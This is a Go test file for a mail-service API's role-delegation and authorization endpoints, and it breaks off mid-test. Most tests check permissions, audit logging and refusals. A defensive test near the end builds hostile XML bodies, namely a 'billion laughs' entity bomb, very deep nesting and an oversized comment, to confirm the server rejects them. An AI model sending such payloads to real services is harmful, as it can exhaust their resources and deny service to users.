package api_test

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5/pgxpool"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/postbox/postbox/api"
	"github.com/postbox/postbox/clock"
	"github.com/postbox/postbox/identity"
	"github.com/postbox/postbox/store/storetest"
)

// Role definitions of the demo dataset.
const (
	roleHADM  = 85
	roleADMAI = 86
	roleUTINN = 87
	roleREGNA = 88
	rolePOSTI = 89
	roleINNSK = 90
	roleSTATI = 91
	roleDAGL  = 92
)

const euUserName = "NORDKYST_INTEGRASJON"

// authzDo sends a request as a person with a platform:enduser token (or the scope given).
func authzDo(t *testing.T, h http.Handler, ssn, method, path, contentType, body string, scope ...string) response {
	t.Helper()
	sc := "platform:enduser"
	if len(scope) > 0 {
		sc = scope[0]
	}
	hdr := map[string]string{"ApiKey": keyAll, "Authorization": "Bearer " + personToken(t, ssn, sc)}
	if contentType != "" {
		hdr["Content-Type"] = contentType
	}
	return do(t, h, request{method: method, path: path, header: hdr, body: body})
}

// authzPerson, authzOrg and authzEnterpriseUser are the right-holder parts of a delegation body.
func authzPerson(ssn, lastName string) string {
	return "<SocialSecurityNumber>" + ssn + "</SocialSecurityNumber><LastName>" + lastName + "</LastName>"
}

func authzOrg(orgnr, name string) string {
	return "<OrganizationNumber>" + orgnr + "</OrganizationNumber><Name>" + name + "</Name>"
}

func authzEnterpriseUser(user, orgnr string) string {
	return "<UserName>" + user + "</UserName><OrganizationNumber>" + orgnr + "</OrganizationNumber>"
}

// authzDelegation is the interface's delegation body.
func authzDelegation(holder string, roles ...int) string {
	var b strings.Builder
	b.WriteString(`<?xml version="1.0" encoding="utf-8"?>` + "\n" + `<resource rel="RightHolder">` + "\n  <Type>Placeholder</Type>\n  " + holder)
	b.WriteString("\n  " + `<resource rel="Roles">`)
	for _, r := range roles {
		fmt.Fprintf(&b, "\n    "+`<resource rel="Role"><RoleDefinitionId>%d</RoleDefinitionId></resource>`, r)
	}
	b.WriteString("\n  </resource>\n</resource>\n")
	return b.String()
}

func authzDelegate(t *testing.T, h http.Handler, callerSSN, who, body string) response {
	t.Helper()
	return authzDo(t, h, callerSSN, http.MethodPost, "/api/"+who+"/authorization/delegations", "application/xml", body)
}

// authzRolesSnapshot is the whole roles table as text, to prove a refused request changed nothing.
func authzRolesSnapshot(t *testing.T, pool *pgxpool.Pool) string {
	t.Helper()
	var s string
	require.NoError(t, pool.QueryRow(context.Background(), `SELECT COALESCE(string_agg(concat_ws('|', id, holder_party_id, holder_login_id,
		reportee_id, role_definition_id, delegator, delegated_time), E'\n' ORDER BY id), '') FROM roles`).Scan(&s))
	var audit int
	require.NoError(t, pool.QueryRow(context.Background(), `SELECT count(*) FROM authorization_audit`).Scan(&audit))
	return fmt.Sprintf("%s\naudit entries: %d", s, audit)
}

// authzRoleID finds the RoleId of a role the holder holds for who.
func authzRoleID(t *testing.T, h http.Handler, holderSSN, who string, definition int) int64 {
	t.Helper()
	r := authzDo(t, h, holderSSN, http.MethodGet, "/api/"+who+"/authorization/roles", "", "")
	require.Equal(t, http.StatusOK, r.Code, r.Body.String())
	for _, role := range r.embedded(t, "roles") {
		if role["RoleDefinitionId"] == float64(definition) {
			return int64(role["RoleId"].(float64))
		}
	}
	t.Fatalf("%s holds no role %d for %s", holderSSN, definition, who)
	return 0
}

// authzMailboxServices lists the service codes of the messages the person sees in who's mailbox, or
// nil when the mailbox is refused.
func authzMailboxServices(t *testing.T, h http.Handler, ssn, who string) []string {
	t.Helper()
	r := getAs(t, h, ssn, "/api/"+who+"/messages")
	if r.Code == http.StatusForbidden {
		return nil
	}
	require.Equal(t, http.StatusOK, r.Code, r.Body.String())
	seen := map[string]bool{}
	var codes []string
	for _, m := range r.embedded(t, "messages") {
		if c := m["ServiceCode"].(string); !seen[c] {
			seen[c] = true
			codes = append(codes, c)
		}
	}
	return codes
}

func authzReportees(t *testing.T, h http.Handler, ssn string) []string {
	t.Helper()
	return reporteeNumbers(t, get(t, h, "/api/reportees", bearer(t, ssn)...))
}

func TestAuthorizationRolesHeldForWho(t *testing.T) {
	r := authzDo(t, shared, ssnP3, http.MethodGet, "/api/"+orgO1+"/authorization/roles", "", "")
	require.Equal(t, http.StatusOK, r.Code, r.Body.String())
	roles := r.embedded(t, "roles")
	require.Len(t, roles, 2)
	assert.EqualValues(t, 50005, roles[0]["RoleId"])
	assert.EqualValues(t, roleADMAI, roles[0]["RoleDefinitionId"])
	assert.Equal(t, "Tilgangsstyring", roles[0]["RoleName"])
	assert.Equal(t, "Altinn", roles[0]["RoleType"])
	assert.Equal(t, "Ingrid Fjellheim", roles[0]["Delegator"])
	assert.Equal(t, "2021-02-09T09:30:00", roles[0]["DelegatedTime"])
	assert.EqualValues(t, roleREGNA, roles[1]["RoleDefinitionId"])
	assert.Equal(t, "http://postbox.test/api/"+orgO1+"/authorization/roledefinitions/86", link(t, roles[0], "roledefinition"))
	assert.Equal(t, "http://postbox.test/api/"+orgO1+"/authorization/roles", link(t, r.json(t), "self"))

	// A person acting for themself holds the automatic base role: main administrator, without a RoleId.
	r = authzDo(t, shared, ssnP1, http.MethodGet, "/api/my/authorization/roles", "", "")
	require.Equal(t, http.StatusOK, r.Code, r.Body.String())
	roles = r.embedded(t, "roles")
	require.Len(t, roles, 1)
	assert.NotContains(t, roles[0], "RoleId")
	assert.EqualValues(t, roleHADM, roles[0]["RoleDefinitionId"])
	assert.Nil(t, roles[0]["DelegatedTime"])
	assert.Contains(t, roles[0], "DelegatedTime", "an unknown timestamp is null")

	// OData works as on every list.
	r = authzDo(t, shared, ssnP1, http.MethodGet, "/api/"+orgO1+"/authorization/roles?$filter="+url.QueryEscape("RoleDefinitionId eq 92"), "", "")
	require.Equal(t, http.StatusOK, r.Code, r.Body.String())
	require.Len(t, r.embedded(t, "roles"), 1)
	assert.Equal(t, "External", r.embedded(t, "roles")[0]["RoleType"])
	requireProblem(t, authzDo(t, shared, ssnP1, http.MethodGet, "/api/"+orgO1+"/authorization/roles?$filter="+url.QueryEscape("Nope eq 1"), "", ""), http.StatusBadRequest)

	// Someone who may not act for the reportee gets the same 403 as for one that does not exist.
	requireProblem(t, authzDo(t, shared, ssnP2, http.MethodGet, "/api/"+orgO1+"/authorization/roles", "", ""), http.StatusForbidden)
	requireProblem(t, authzDo(t, shared, ssnP2, http.MethodGet, "/api/999999999/authorization/roles", "", ""), http.StatusForbidden)

	// XML: a HAL-XML collection.
	r = get(t, shared, "/api/"+orgO1+"/authorization/roles", append(bearer(t, ssnP3), "Accept", "application/xml")...)
	require.Equal(t, http.StatusOK, r.Code, r.Body.String())
	assert.Equal(t, "application/xml; charset=utf-8", r.Header().Get("Content-Type"))
	requireWellFormedXML(t, r.Body.Bytes())
	body := r.Body.String()
	assert.Contains(t, body, `<resource href="http://postbox.test/api/`+orgO1+`/authorization/roles">`)
	assert.Contains(t, body, `<resource rel="roles">`)
	assert.Contains(t, body, `<RoleId>50005</RoleId>`)
	assert.Contains(t, body, `<link rel="roledefinition" href="http://postbox.test/api/`+orgO1+`/authorization/roledefinitions/88">`)
	assert.Contains(t, body, `<DelegatedTime>2021-02-09T09:31:00</DelegatedTime>`)
}

func TestAuthorizationRightsHeldForWho(t *testing.T) {
	r := authzDo(t, shared, ssnP3, http.MethodGet, "/api/"+orgO1+"/authorization/rights", "", "")
	require.Equal(t, http.StatusOK, r.Code, r.Body.String())
	rights := r.embedded(t, "rights")
	var got []string
	for _, x := range rights {
		assert.Equal(t, "Service", x["RightType"])
		assert.Equal(t, "RoleTypeRights", x["RightSourceType"])
		assert.Equal(t, true, x["IsDelegatable"])
		assert.Greater(t, x["RightID"], float64(0))
		got = append(got, fmt.Sprintf("%s/%v %s", x["ServiceCode"], x["ServiceEditionCode"], x["Action"]))
	}
	// REGNA's rights (ADMAI has none): read and write, never Sign.
	assert.Equal(t, []string{"4711/1 Read", "4711/1 Write", "4711/1 ArchiveRead", "4711/2 Read", "4711/2 Write", "4711/2 ArchiveRead", "7001/1 Read"}, got)

	// P1 holds DAGL and HADM for O1; a right both give is listed once.
	r = authzDo(t, shared, ssnP1, http.MethodGet, "/api/"+orgO1+"/authorization/rights?$filter="+url.QueryEscape("ServiceCode eq '4711' and Action eq 'Sign'"), "", "")
	require.Equal(t, http.StatusOK, r.Code, r.Body.String())
	assert.Len(t, r.embedded(t, "rights"), 2)

	// JSON and XML.
	r = get(t, shared, "/api/"+orgO1+"/authorization/rights", append(bearer(t, ssnP4), "Accept", "application/hal+xml")...)
	require.Equal(t, http.StatusOK, r.Code, r.Body.String())
	requireWellFormedXML(t, r.Body.Bytes())
	assert.Contains(t, r.Body.String(), `<ServiceCode>7102</ServiceCode>`)
	assert.Contains(t, r.Body.String(), `<RightSourceType>RoleTypeRights</RightSourceType>`)
	r = get(t, shared, "/api/"+orgO1+"/authorization/rights", append(bearer(t, ssnP4), "Accept", "application/json")...)
	require.Equal(t, http.StatusOK, r.Code)
	require.Len(t, r.embedded(t, "rights"), 1)
}

func TestAuthorizationScopesAndKeys(t *testing.T) {
	path := "/api/" + orgO1 + "/authorization/roles"
	cases := []struct {
		scope string
		code  int
	}{
		{"platform:rolesandrights.read", http.StatusOK},
		{"platform:enduser", http.StatusOK},
		{"platform:instances.read", http.StatusForbidden},
		{"platform:delegations.read", http.StatusForbidden},
	}
	for _, tc := range cases {
		r := authzDo(t, shared, ssnP3, http.MethodGet, path, "", "", tc.scope)
		assert.Equal(t, tc.code, r.Code, tc.scope)
	}
	r := authzDo(t, shared, ssnP1, http.MethodGet, "/api/"+orgO1+"/authorization/delegations", "", "", "platform:delegations.read")
	assert.Equal(t, http.StatusOK, r.Code)
	r = authzDo(t, shared, ssnP1, http.MethodPost, "/api/"+orgO1+"/authorization/delegations", "application/xml",
		authzDelegation(authzPerson(ssnP5, "Brekke"), roleREGNA), "platform:delegations.read")
	p := requireProblem(t, r, http.StatusForbidden)
	assert.Equal(t, "urn:postbox:problem:insufficient-scope", p["type"])
	r = authzDo(t, shared, ssnP1, http.MethodGet, "/api/"+orgO1+"/authorization/roledefinitions", "", "", "platform:roledefinitions.read")
	assert.Equal(t, http.StatusOK, r.Code)

	// A key without the area gets 403, whatever the token.
	r = get(t, shared, path, "ApiKey", keyMailbox, "Authorization", "Bearer "+personToken(t, ssnP3, "platform:enduser"))
	p = requireProblem(t, r, http.StatusForbidden)
	assert.Equal(t, "urn:postbox:problem:api-key-area", p["type"])

	// A password session (no scopes) works too.
	srv, _ := newServer(t)
	cookie := login(t, srv, "sigrid.haugland", "Demo-3-Haugland!")
	r = get(t, srv, path, "ApiKey", keyAll, "Cookie", ".ASPXAUTH="+cookie)
	assert.Equal(t, http.StatusOK, r.Code, r.Body.String())
}

// A delegated role gives the right holder the reportee and its messages at once; deleting it takes both away.
func TestDelegationGivesAndDeletionTakesAccessAtOnce(t *testing.T) {
	srv, pool := newServer(t)

	assert.Equal(t, []string{ssnP5, orgO4, orgO6}, authzReportees(t, srv, ssnP5))
	assert.Nil(t, authzMailboxServices(t, srv, ssnP5, orgO1))

	// P3 is access manager and holds REGNA (read and write, no Sign): P3 may delegate it.
	r := authzDelegate(t, srv, ssnP3, orgO1, authzDelegation(authzPerson(ssnP5, "Brekke"), roleREGNA))
	require.Equal(t, http.StatusCreated, r.Code, r.Body.String())

	assert.Equal(t, []string{ssnP5, orgO1, orgO4, orgO6}, authzReportees(t, srv, ssnP5))
	services := authzMailboxServices(t, srv, ssnP5, orgO1)
	require.NotEmpty(t, services)
	for _, s := range services {
		assert.Contains(t, []string{"4711", "7001"}, s, "REGNA reads 4711 and 7001 only")
	}
	regna := authzRoleID(t, srv, ssnP5, orgO1, roleREGNA)
	roles := authzDo(t, srv, ssnP5, http.MethodGet, "/api/"+orgO1+"/authorization/roles", "", "").embedded(t, "roles")
	require.Len(t, roles, 1)
	assert.Equal(t, "Sigrid Haugland", roles[0]["Delegator"])
	assert.Regexp(t, `^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d$`, roles[0]["DelegatedTime"])

	// The main administrator delegates UTINN (with Sign) to P5 as well; P5's mailbox widens at once.
	r = authzDelegate(t, srv, ssnP1, orgO1, authzDelegation(authzPerson(ssnP5, "brekke"), roleUTINN))
	require.Equal(t, http.StatusCreated, r.Code, r.Body.String())
	assert.Contains(t, authzMailboxServices(t, srv, ssnP5, orgO1), "6120")
	utinn := authzRoleID(t, srv, ssnP5, orgO1, roleUTINN)
	// The answer names the receiver, and its Location is the receiver's delegations, usable at once.
	created := r.json(t)
	p5 := selfReporteeID(t, ssnP5)
	assert.Equal(t, p5, created["RightHolderId"])
	assert.Equal(t, []any{float64(utinn)}, created["RoleIds"])
	receiver := authzDo(t, srv, ssnP1, http.MethodGet, pathOf(t, r.Header().Get("Location")), "", "")
	require.Equal(t, http.StatusOK, receiver.Code, receiver.Body.String())
	assert.Equal(t, p5, receiver.json(t)["RightHolderId"])
	// The delegations list names each receiver by the same id, with a link to it.
	var listed []map[string]any
	for _, d := range authzDo(t, srv, ssnP1, http.MethodGet, "/api/"+orgO1+"/authorization/delegations", "", "").embedded(t, "delegations") {
		if d["RightHolderName"] == "Eivind Brekke" {
			listed = append(listed, d)
		}
	}
	require.NotEmpty(t, listed)
	for _, d := range listed {
		assert.Equal(t, p5, d["RightHolderId"])
		assert.Equal(t, pathOf(t, r.Header().Get("Location")), pathOf(t, d["_links"].(map[string]any)["receiver"].(map[string]any)["href"].(string)))
	}

	// P4 is neither access manager nor holder: 403; unknown role ids get 404 from an access manager.
	p := requireProblem(t, authzDo(t, srv, ssnP4, http.MethodDelete, fmt.Sprintf("/api/%s/authorization/roles/%d", orgO1, regna), "", ""), http.StatusForbidden)
	assert.Equal(t, "urn:postbox:problem:not-access-manager", p["type"])
	requireProblem(t, authzDo(t, srv, ssnP1, http.MethodDelete, "/api/"+orgO1+"/authorization/roles/987654", "", ""), http.StatusNotFound)
	requireProblem(t, authzDo(t, srv, ssnP1, http.MethodDelete, "/api/"+orgO1+"/authorization/roles/abc", "", ""), http.StatusNotFound)
	requireProblem(t, authzDo(t, srv, ssnP1, http.MethodDelete, fmt.Sprintf("/api/%s/authorization/roles/%d", orgO2, regna), "", ""),
		http.StatusForbidden) // the role is not O2's, and P1 is no access manager of O2
	// A role from the business register is not deleted here, even by the main administrator.
	p = requireProblem(t, authzDo(t, srv, ssnP1, http.MethodDelete, "/api/"+orgO1+"/authorization/roles/50001", "", ""), http.StatusForbidden)
	assert.Equal(t, "urn:postbox:problem:role-from-register", p["type"])

	// The access manager deletes P5's UTINN: 204, empty, and 6120 is gone from P5's mailbox at once.
	r = authzDo(t, srv, ssnP3, http.MethodDelete, fmt.Sprintf("/api/%s/authorization/roles/%d", orgO1, utinn), "", "")
	require.Equal(t, http.StatusNoContent, r.Code, r.Body.String())
	assert.Empty(t, r.Body.String())
	assert.NotContains(t, authzMailboxServices(t, srv, ssnP5, orgO1), "6120")

	// The holder deletes their own role (P5 is no access manager), through {who} = my.
	r = authzDo(t, srv, ssnP5, http.MethodDelete, fmt.Sprintf("/api/my/authorization/roles/%d", regna), "", "")
	require.Equal(t, http.StatusNoContent, r.Code, r.Body.String())
	assert.Equal(t, []string{ssnP5, orgO4, orgO6}, authzReportees(t, srv, ssnP5))
	assert.Nil(t, authzMailboxServices(t, srv, ssnP5, orgO1))
	requireProblem(t, authzDo(t, srv, ssnP5, http.MethodDelete, fmt.Sprintf("/api/my/authorization/roles/%d", regna), "", ""), http.StatusNotFound)
	requireProblem(t, authzDo(t, srv, ssnP1, http.MethodDelete, fmt.Sprintf("/api/%s/authorization/roles/%d", orgO1, regna), "", ""), http.StatusNotFound)

	// The audit log holds all four changes, newest first, with who, for whom, when and which client.
	r = authzDo(t, srv, ssnP1, http.MethodGet, "/api/"+orgO1+"/authorization/auditlog", "", "")
	require.Equal(t, http.StatusOK, r.Code, r.Body.String())
	entries := r.embedded(t, "auditlog")
	require.Len(t, entries, 4)
	var actions, actors []string
	for _, e := range entries {
		actions = append(actions, e["Action"].(string))
		actors = append(actors, e["Actor"].(string))
		assert.Equal(t, "Eivind Brekke", e["RightHolder"])
		assert.Equal(t, "person-token", e["Authentication"])
		assert.NotEmpty(t, e["ApiKey"])
		assert.NotEmpty(t, e["RequestId"])
		assert.WithinDuration(t, time.Now(), parseLocal(t, e["Time"].(string)), time.Minute)
	}
	assert.Equal(t, []string{"DeleteRole", "DeleteRole", "DelegateRole", "DelegateRole"}, actions)
	assert.Equal(t, []string{"Eivind Brekke", "Sigrid Haugland", "Ingrid Fjellheim", "Sigrid Haugland"}, actors)
	assert.EqualValues(t, regna, entries[0]["RoleId"])
	assert.Contains(t, entries[3]["Summary"], "REGNA")

	// Paged and filtered like every list.
	r = authzDo(t, srv, ssnP3, http.MethodGet, "/api/"+orgO1+"/authorization/auditlog?$top=1&$filter="+url.QueryEscape("Action eq 'DelegateRole'"), "", "")
	require.Equal(t, http.StatusOK, r.Code, r.Body.String())
	assert.Len(t, r.embedded(t, "auditlog"), 1)
	assert.Contains(t, link(t, r.json(t), "next"), "$skip=1")
	r = get(t, srv, "/api/"+orgO1+"/authorization/auditlog", append(bearer(t, ssnP1), "Accept", "application/xml")...)
	require.Equal(t, http.StatusOK, r.Code)
	requireWellFormedXML(t, r.Body.Bytes())
	assert.Contains(t, r.Body.String(), `<resource rel="auditlog">`)
	assert.Contains(t, r.Body.String(), `<Action>DelegateRole</Action>`)
	// Only access managers read it.
	requireProblem(t, authzDo(t, srv, ssnP4, http.MethodGet, "/api/"+orgO1+"/authorization/auditlog", "", ""), http.StatusForbidden)

	// The log is append-only, in the database itself.
	_, err := pool.Exec(context.Background(), `UPDATE authorization_audit SET actor_name = 'someone else'`)
	require.Error(t, err)
	_, err = pool.Exec(context.Background(), `DELETE FROM authorization_audit`)
	require.Error(t, err)
	_, err = pool.Exec(context.Background(), `TRUNCATE authorization_audit`)
	require.Error(t, err)
}

func parseLocal(t *testing.T, s string) time.Time {
	t.Helper()
	v, err := time.ParseInLocation("2006-01-02T15:04:05", s, clock.Zone()) // the service's zone, as every local time
	require.NoError(t, err)
	return v
}

// Organizations and enterprise users receive roles too; the enterprise user's role can be deleted with its
// user name as {who}.
func TestDelegationToOrganizationsAndEnterpriseUsers(t *testing.T) {
	srv, _ := newServer(t)
	r := authzDelegate(t, srv, ssnP1, orgO1, authzDelegation(authzEnterpriseUser(euUserName, orgO3), rolePOSTI))
	require.Equal(t, http.StatusCreated, r.Code, r.Body.String())
	r = authzDelegate(t, srv, ssnP1, orgO1, authzDelegation(authzOrg(orgO4, "eivind brekke  snekkerverksted"), roleINNSK))
	require.Equal(t, http.StatusCreated, r.Code, r.Body.String())

	// The organization's own token now represents O1.
	org, err := minter(t).Mint(identity.TokenRequest{Org: orgO4, Scope: "platform:reportees"})
	require.NoError(t, err)
	r = get(t, srv, "/api/reportees", "ApiKey", keyAll, "Authorization", "Bearer "+org)
	assert.Equal(t, []string{orgO1, orgO4}, reporteeNumbers(t, r))

	// The delegations of O1, as its access managers see them: persons by name, never by identity number.
	r = authzDo(t, srv, ssnP3, http.MethodGet, "/api/"+orgO1+"/authorization/delegations", "", "")
	require.Equal(t, http.StatusOK, r.Code, r.Body.String())
	assert.NotContains(t, r.Body.String(), ssnP3)
	assert.NotContains(t, r.Body.String(), ssnP4)
	byHolder := map[string]map[string]any{}
	for _, d := range r.embedded(t, "delegations") {
		byHolder[d["RightHolderName"].(string)+"/"+fmt.Sprint(d["RoleDefinitionId"])] = d
	}
	eu := byHolder[euUserName+"/89"]
	require.NotNil(t, eu, r.Body.String())
	assert.Equal(t, "EnterpriseUser", eu["RightHolderType"])
	assert.Equal(t, orgO3, eu["RightHolderOrganizationNumber"])
	assert.Equal(t, euUserName, eu["RightHolderUserName"])
	assert.Equal(t, "Ingrid Fjellheim", eu["Delegator"])
	o4 := byHolder["Eivind Brekke Snekkerverksted/90"]
	require.NotNil(t, o4)
	assert.Equal(t, "Organization", o4["RightHolderType"])
	assert.Equal(t, "Person", byHolder["Sigrid Haugland/88"]["RightHolderType"])
	assert.Len(t, r.embedded(t, "delegations"), 7, "P1's DAGL and HADM, P3's two, P4's INNSK and the two new ones")

	r = authzDo(t, srv, ssnP1, http.MethodGet, "/api/"+orgO1+"/authorization/delegations?$filter="+url.QueryEscape("RightHolderUserName eq '"+euUserName+"'"), "", "")
	require.Equal(t, http.StatusOK, r.Code, r.Body.String())
	list := r.embedded(t, "delegations")
	require.Len(t, list, 1)
	euRole := int64(list[0]["RoleId"].(float64))
	r = authzDo(t, srv, ssnP1, http.MethodGet, "/api/"+orgO1+"/authorization/delegations?receiverId="+orgO4, "", "")
	require.Equal(t, http.StatusOK, r.Code, r.Body.String())
	list = r.embedded(t, "delegations")
	require.Len(t, list, 1, "the organization as receiver: only its INNSK")
	assert.Equal(t, float64(roleINNSK), list[0]["RoleDefinitionId"])
	r = get(t, srv, "/api/"+orgO1+"/authorization/delegations", append(bearer(t, ssnP1), "Accept", "application/xml")...)
	require.Equal(t, http.StatusOK, r.Code)
	requireWellFormedXML(t, r.Body.Bytes())
	assert.Contains(t, r.Body.String(), `<RightHolderUserName>`+euUserName+`</RightHolderUserName>`)
	requireProblem(t, authzDo(t, srv, ssnP4, http.MethodGet, "/api/"+orgO1+"/authorization/delegations", "", ""), http.StatusForbidden)

	// {who} as a user name: the holder of the role. An unknown name is answered like a role not held.
	unknown := requireProblem(t, authzDo(t, srv, ssnP1, http.MethodDelete, fmt.Sprintf("/api/no.such.user/authorization/roles/%d", euRole), "", ""), http.StatusForbidden)
	notHeld := requireProblem(t, authzDo(t, srv, ssnP1, http.MethodDelete, "/api/"+euUserName+"/authorization/roles/50001", "", ""), http.StatusForbidden)
	assert.Equal(t, unknown["type"], notHeld["type"])
	requireProblem(t, authzDo(t, srv, ssnP4, http.MethodDelete, fmt.Sprintf("/api/%s/authorization/roles/%d", euUserName, euRole), "", ""), http.StatusForbidden)
	r = authzDo(t, srv, ssnP1, http.MethodDelete, fmt.Sprintf("/api/%s/authorization/roles/%d", euUserName, euRole), "", "")
	require.Equal(t, http.StatusNoContent, r.Code, r.Body.String())
}

// Every refusal of a delegation, each answered before anything is written.
func TestDelegationRefusals(t *testing.T) {
	srv, pool := newServer(t)
	// Give P3 STATI, whose Sign right on 6120 may not be delegated further.
	require.Equal(t, http.StatusCreated, authzDelegate(t, srv, ssnP1, orgO1, authzDelegation(authzPerson(ssnP3, "Haugland"), roleSTATI)).Code)
	before := authzRolesSnapshot(t, pool)

	toP5 := func(roles ...int) string { return authzDelegation(authzPerson(ssnP5, "Brekke"), roles...) }
	cases := []struct {
		name        string
		caller, who string
		contentType string
		body        string
		status      int
		kind        string
	}{
		{"not access manager", ssnP4, orgO1, "application/xml", toP5(roleINNSK), http.StatusForbidden, "not-access-manager"},
		{"not a reportee", ssnP2, orgO1, "application/xml", toP5(roleREGNA), http.StatusForbidden, "not-a-reportee"},
		{"a role not held, with Sign", ssnP3, orgO1, "application/xml", toP5(roleUTINN), http.StatusForbidden, "role-not-held"},
		{"main administrator's role", ssnP3, orgO1, "application/xml", toP5(roleHADM), http.StatusForbidden, "role-not-held"},
		{"a held role with a right not delegatable", ssnP3, orgO1, "application/xml", toP5(roleSTATI), http.StatusForbidden, "rights-not-held"},
		{"one bad role spoils the request", ssnP3, orgO1, "application/xml", toP5(roleREGNA, roleUTINN), http.StatusForbidden, "role-not-held"},
		{"business register role", ssnP1, orgO1, "application/xml", toP5(roleDAGL), http.StatusForbidden, "role-not-delegatable"},
		{"wrong last name", ssnP1, orgO1, "application/xml", authzDelegation(authzPerson(ssnP5, "Hansen"), roleREGNA), http.StatusBadRequest, "right-holder-mismatch"},
		{"unknown identity number", ssnP1, orgO1, "application/xml", authzDelegation(authzPerson("11111111111", "Brekke"), roleREGNA), http.StatusBadRequest, "right-holder-mismatch"},
		{"identity number of an organization's size", ssnP1, orgO1, "application/xml", authzDelegation(authzPerson(orgO4, "Brekke"), roleREGNA), http.StatusBadRequest, "bad-request"},
		{"organization with the wrong name", ssnP1, orgO1, "application/xml", authzDelegation(authzOrg(orgO4, "Noe Annet AS"), roleREGNA), http.StatusBadRequest, "right-holder-mismatch"},
		{"deleted organization", ssnP1, orgO1, "application/xml", authzDelegation(authzOrg(orgO6, "Gamle Brygge Handel AS"), roleREGNA), http.StatusBadRequest, "bad-request"},
		{"enterprise user of another organization", ssnP1, orgO1, "application/xml", authzDelegation(authzEnterpriseUser(euUserName, orgO5), roleREGNA), http.StatusBadRequest, "right-holder-mismatch"},
		{"a person as enterprise user", ssnP1, orgO1, "application/xml", authzDelegation(authzEnterpriseUser("eivind.brekke", orgO3), roleREGNA), http.StatusBadRequest, "right-holder-mismatch"},
		{"no right holder", ssnP1, orgO1, "application/xml", authzDelegation("", roleREGNA), http.StatusBadRequest, "bad-request"},
		{"two right holders", ssnP1, orgO1, "application/xml", authzDelegation(authzPerson(ssnP5, "Brekke")+"<OrganizationNumber>"+orgO4+"</OrganizationNumber>", roleREGNA), http.StatusBadRequest, "bad-request"},
		{"the reportee itself", ssnP1, orgO1, "application/xml", authzDelegation(authzOrg(orgO1, "Fjellheim Maskin AS"), roleREGNA), http.StatusBadRequest, "bad-request"},
		{"unknown role definition", ssnP1, orgO1, "application/xml", toP5(987654), http.StatusBadRequest, "bad-request"},
		{"already held", ssnP1, orgO1, "application/xml", authzDelegation(authzPerson(ssnP3, "Haugland"), roleREGNA), http.StatusConflict, "role-already-held"},
		{"no roles", ssnP1, orgO1, "application/xml", toP5(), http.StatusBadRequest, "bad-request"},
		{"same role twice", ssnP1, orgO1, "application/xml", toP5(roleREGNA, roleREGNA), http.StatusBadRequest, "bad-request"},
		{"role id not a number", ssnP1, orgO1, "application/xml", strings.Replace(toP5(roleREGNA), "88", "REGNA", 1), http.StatusBadRequest, "bad-request"},
		{"unknown element", ssnP1, orgO1, "application/xml", strings.Replace(toP5(roleREGNA), "<Type>", "<Nickname>x</Nickname><Type>", 1), http.StatusBadRequest, "bad-request"},
		{"wrong root", ssnP1, orgO1, "application/xml", `<resource rel="Roles"/>`, http.StatusBadRequest, "bad-request"},
		{"JSON body without roles", ssnP1, orgO1, "application/json", `{"SocialSecurityNumber":"` + ssnP5 + `"}`, http.StatusBadRequest, "bad-request"},
		{"text body", ssnP1, orgO1, "text/plain", toP5(roleREGNA), http.StatusUnsupportedMediaType, "unsupported-media-type"},
		{"no content type", ssnP1, orgO1, "", toP5(roleREGNA), http.StatusUnsupportedMediaType, "unsupported-media-type"},
		{"malformed XML", ssnP1, orgO1, "application/xml", `<resource rel="RightHolder"><LastName>Brekke</resource>`, http.StatusBadRequest, "invalid-xml"},
		{"not XML at all", ssnP1, orgO1, "application/xml", `{"a":1}`, http.StatusBadRequest, "invalid-xml"},
		{"empty body", ssnP1, orgO1, "application/xml", ``, http.StatusBadRequest, "invalid-xml"},
		{"two roots", ssnP1, orgO1, "application/xml", toP5(roleREGNA) + `<resource/>`, http.StatusBadRequest, "invalid-xml"},
		{"another encoding", ssnP1, orgO1, "application/xml", strings.Replace(toP5(roleREGNA), "utf-8", "ISO-8859-1", 1), http.StatusBadRequest, "invalid-xml"},
	}
	details := map[string]any{}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := authzDo(t, srv, tc.caller, http.MethodPost, "/api/"+tc.who+"/authorization/delegations", tc.contentType, tc.body)
			p := requireProblem(t, r, tc.status)
			assert.Equal(t, "urn:postbox:problem:"+tc.kind, p["type"], p["detail"])
			details[tc.name] = p["detail"]
			if tc.kind == "rights-not-held" && strings.Contains(tc.name, "role") {
				assert.NotEmpty(t, p["errors"], "the rights the caller lacks are named one by one")
			}
		})
	}
	assert.Equal(t, details["wrong last name"], details["unknown identity number"], "the answer must not tell whether the number exists")
	assert.NotContains(t, details["wrong last name"], "Brekke")
	assert.Equal(t, before, authzRolesSnapshot(t, pool), "a refused delegation changes nothing")
	var definitions int
	require.NoError(t, pool.QueryRow(context.Background(), `SELECT count(*) FROM role_definitions WHERE role_type = 'SingleRight'`).Scan(&definitions))
	assert.Zero(t, definitions, "a refused right leaves no definition")

	// P3 may delegate REGNA, and ADMAI (no rights) too.
	r := authzDelegate(t, srv, ssnP3, orgO1, authzDelegation(authzPerson(ssnP5, "Brekke"), roleREGNA, roleADMAI))
	require.Equal(t, http.StatusCreated, r.Code, r.Body.String())
}

// Hostile XML bodies are refused quickly, and change nothing.
func TestDelegationHostileXML(t *testing.T) {
	srv, pool := newServer(t)
	before := authzRolesSnapshot(t, pool)
	role := `<resource rel="Roles"><resource rel="Role"><RoleDefinitionId>88</RoleDefinitionId></resource></resource>`

	laughs := `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">` +
		`<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">`
	for i := 3; i <= 9; i++ {
		laughs += fmt.Sprintf(`<!ENTITY lol%d "%s">`, i, strings.Repeat(fmt.Sprintf("&lol%d;", i-1), 10))
	}
	laughs += `]><resource rel="RightHolder"><SocialSecurityNumber>` + ssnP5 + `</SocialSecurityNumber><LastName>&lol9;</LastName>` + role + `</resource>`

	deep := strings.Repeat("<a>", 5_000) + strings.Repeat("</a>", 5_000)
	huge := `<resource rel="RightHolder"><!--` + strings.Repeat("A", 10<<20) + `--></resource>`
	cases := []struct {
		name   string
		body   string
		status int
		header map[string]string
		chunk  bool
	}{
		{"billion laughs", laughs, http.StatusBadRequest, nil, false},
